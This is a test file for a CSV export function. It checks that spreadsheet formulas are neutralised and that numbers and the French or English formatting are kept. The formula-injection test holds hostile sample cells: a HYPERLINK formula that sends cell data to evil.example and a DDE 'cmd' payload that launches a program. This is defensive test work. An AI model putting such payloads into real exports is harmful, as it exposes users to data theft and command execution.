// The one CSV writer: a cell a spreadsheet would run as a formula goes out as text; numbers stay numbers.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { toCsv } from "~/modules/core/csv";

const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { delimiter: ";" }).data[0] ?? [];

describe("CSV cells", () => {
  it("turns every formula a spreadsheet would run into text", () => {
    const live = [
      '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
      "+33 6 12 34 56 78",
      "-1+cmd|' /C calc'!A0",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
      "  =1+1",
      "＝1+1",
    ];
    const out = cells(toCsv([live], "fr"));
    expect(out).toHaveLength(live.length);
    out.forEach((cell, i) => expect(cell, JSON.stringify(live[i])).toBe(`'${live[i]}`));
  });

  it("leaves numbers (French or English, signed) and ordinary words as they are", () => {
    const plain = ["-12,5", "+3", "-4.25", "12", "< 5", "×", "Les Érables", "Jean-Pierre", "2026-T1", ""];
    expect(cells(toCsv([plain], "fr"))).toEqual(plain);
    expect(toCsv([[-3, 4.5]], "en")).toBe("\uFEFF-3,4.5");
  });

  it("writes what French Excel opens: a BOM, ';' in French, ',' in English, CRLF lines", () => {
    expect(
      toCsv(
        [
          ["a", "b"],
          ["c", "d"],
        ],
        "fr",
      ),
    ).toBe("\uFEFFa;b\r\nc;d");
    expect(toCsv([["a", "b"]], "en")).toBe("\uFEFFa,b");
  });
});
